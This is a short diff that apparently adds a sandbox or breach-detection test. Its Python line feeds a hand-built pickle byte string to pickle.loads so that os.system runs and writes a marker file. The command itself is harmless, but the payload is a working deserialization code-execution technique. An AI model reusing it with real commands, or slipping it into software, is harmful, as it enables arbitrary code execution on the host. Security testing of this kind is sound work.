@@ -1,0 +1,5 @@
+# pickle calls os.system by name.
+# breach: marker
+# state: kept
+import pickle
+pickle.loads(b"cos\nsystem\n(V" + f"echo > {MARKER_FILE}".encode() + b"\ntR.")
